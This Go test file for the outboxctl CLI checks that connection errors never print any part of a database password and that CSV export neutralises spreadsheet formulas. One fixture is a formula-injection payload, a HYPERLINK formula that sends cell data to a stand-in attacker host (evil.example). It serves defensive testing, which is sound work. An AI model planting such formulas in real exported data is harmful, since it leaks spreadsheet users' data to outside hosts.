package cmd_test

import (
	"context"
	"encoding/csv"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/outboxctl/outboxctl/cmd"
	"github.com/outboxctl/outboxctl/internal/fixture"
	"github.com/outboxctl/outboxctl/internal/render"
	"github.com/outboxctl/outboxctl/internal/testdb"
)

// TestPasswordCutAtItsAtSaysSo: the issue's command line printed "cannot reach PostgreSQL
// at w0rdTAIL@127.0.0.1:5432" on main, the tail of the password. It is a usage error that
// says how to write the password, and shows none of it.
func TestPasswordCutAtItsAtSaysSo(t *testing.T) {
	t.Parallel()
	_, errOut := runCLIExpect(t, cmd.ExitUsage, "--dsn", "postgres://postgres:p4ss@w0rdTAIL@127.0.0.1:5432/test", "depth")
	want := `Error: the connection string's host "xxxxx@127.0.0.1" holds an @, so its password was cut at an unencoded @; ` +
		"percent-encode @ / : ? # and spaces in the password (@ is %40, / is %2F)\n"
	if errOut != want {
		t.Fatalf("stderr:\n%s\nwant:\n%s", errOut, want)
	}
}

// TestNoFragmentOfAPassword runs depth end to end with random passwords holding @ : / ? # %
// and spaces, written raw and percent-encoded in a URL, quoted in key=value pairs, in
// --dsn and in OUTBOXCTL_DSN, against a closed port and the test server (which trusts any
// password): no 4 bytes of the password appear in stdout or stderr, whatever the exit.
func TestNoFragmentOfAPassword(t *testing.T) {
	t.Parallel()
	schema := testdb.Schema(t, fixture.Options{})
	run := func(pw, host, form string) (int, string) {
		dsn := passwordDSN(pw, host, form)
		args := []string{"--schema", schema, "depth"}
		env := map[string]string{}
		if strings.HasSuffix(form, "-env") {
			env["OUTBOXCTL_DSN"] = dsn
		} else {
			args = append([]string{"--dsn", dsn}, args...)
		}
		io, out, errOut := render.Test()
		io.Getenv = func(k string) string { return env[k] }
		code := cmd.Main(context.Background(), args, io)
		return code, out.String() + errOut.String()
	}
	server, err := url.Parse(testdb.DSN())
	if err != nil {
		t.Fatal(err)
	}
	hosts := []string{"127.0.0.1:1", server.Host} // nothing listens on port 1; the test server
	forms := []string{"raw", "encoded", "keyword", "raw-env", "keyword-env"}
	// What the command prints whatever the password: a password sharing 4 bytes with it
	// would fail the test without a leak, so such passwords are not drawn.
	var baseline strings.Builder
	for _, h := range hosts {
		for _, f := range forms {
			_, text := run("Zq9", h, f)
			baseline.WriteString(text)
		}
	}
	rng := rand.New(rand.NewPCG(21, 6))
	const alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789@:/?#% "
	for n := 0; n < 30; {
		b := make([]byte, 10+rng.IntN(15))
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		pw := string(b)
		if strings.Count(pw, "@")+strings.Count(pw, "/")+strings.Count(pw, "?") == 0 || sharesFragment(baseline.String(), pw) {
			continue
		}
		n++
		for _, h := range hosts {
			for _, f := range forms {
				code, text := run(pw, h, f)
				if leak := sharesFragment(text, pw); leak {
					t.Errorf("password %q, %s DSN to %s: exit %d, a fragment printed:\n%s", pw, f, h, code, text)
				}
				switch reachable := h == hosts[1]; {
				case !reachable && code == cmd.ExitOK:
					t.Errorf("password %q, %s DSN to a closed port: exit 0", pw, f)
				case reachable && (f == "encoded" || strings.HasPrefix(f, "keyword")) && code != cmd.ExitOK:
					t.Errorf("password %q, %s DSN to the server: exit %d, want 0:\n%s", pw, f, code, text)
				}
			}
		}
	}
}

// passwordDSN writes pw into a DSN to host in one of the forms a user would.
func passwordDSN(pw, host, form string) string {
	h, port, _ := strings.Cut(host, ":")
	switch strings.TrimSuffix(form, "-env") {
	case "encoded":
		return "postgres://" + url.UserPassword("postgres", pw).String() + "@" + host + "/test?sslmode=disable"
	case "keyword":
		quoted := strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(pw)
		return "host=" + h + " port=" + port + " user=postgres password='" + quoted + "' dbname=test sslmode=disable"
	}
	return "postgres://postgres:" + pw + "@" + host + "/test?sslmode=disable"
}

// sharesFragment reports whether text holds 4 consecutive bytes of pw.
func sharesFragment(text, pw string) bool {
	for i := 0; i+4 <= len(pw); i++ {
		if strings.Contains(text, pw[i:i+4]) {
			return true
		}
	}
	return false
}

// TestCSVOfHostilePayloads runs inspect object -o csv on a text payload a spreadsheet would
// run and a jsonb one: the formula gets a leading ', the ids (numbers) stay, the jsonb
// payload is its JSON text (main printed [123 34 …] and the formula as it was); --csv-raw
// prints the formula as it is; --csv-raw without -o csv is a usage error.
func TestCSVOfHostilePayloads(t *testing.T) {
	t.Parallel()
	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	text := testdb.Schema(t, fixture.Options{Payload: fixture.PayloadText})
	jsonb := testdb.Schema(t, fixture.Options{})
	testdb.Insert(t, text, "sentry_regionoutbox", testdb.Row{Scope: 0, Shard: 9, Category: 2, Object: 9, Payload: testdb.Str(formula)})
	testdb.Insert(t, jsonb, "sentry_regionoutbox", testdb.Row{Scope: 0, Shard: 9, Category: 2, Object: 9, Payload: testdb.Str(`{"note": "-1"}`)})
	// The cells a spreadsheet reads: the CSV parsed, up to the payload.
	cells := func(schema string, extra ...string) []string {
		out, _ := mustRun(t, cmd.ExitOK, schema, append([]string{"inspect", "object", "ORGANIZATION_UPDATE", "9", "-o", "csv"}, extra...)...)
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(recs) != 2 || !slices.Equal(recs[0][:8], []string{"id", "shard_scope", "scope", "shard_identifier", "category", "category_name", "object_identifier", "payload"}) {
			t.Fatalf("csv (%v):\n%s", err, out)
		}
		return recs[1][1:8]
	}
	for _, tc := range []struct {
		schema  string
		extra   []string
		payload string
	}{
		{text, nil, "'" + formula},
		{text, []string{"--csv-raw"}, formula},
		{jsonb, nil, `{"note": "-1"}`},
	} {
		want := []string{"0", "ORGANIZATION_SCOPE", "9", "2", "ORGANIZATION_UPDATE", "9", tc.payload}
		if got := cells(tc.schema, tc.extra...); !slices.Equal(got, want) {
			t.Errorf("%v: cells %q, want %q", tc.extra, got, want)
		}
	}
	_, errOut := mustRun(t, cmd.ExitUsage, jsonb, "inspect", "object", "ORGANIZATION_UPDATE", "9", "--csv-raw")
	if want := "Error: --csv-raw goes with -o csv (it leaves CSV cells that start with = + - @ unneutralised)\n" +
		"Try: outboxctl --schema " + jsonb + " inspect object ORGANIZATION_UPDATE 9 --csv-raw -o csv\n"; errOut != want {
		t.Errorf("stderr %q, want %q", errOut, want)
	}
}
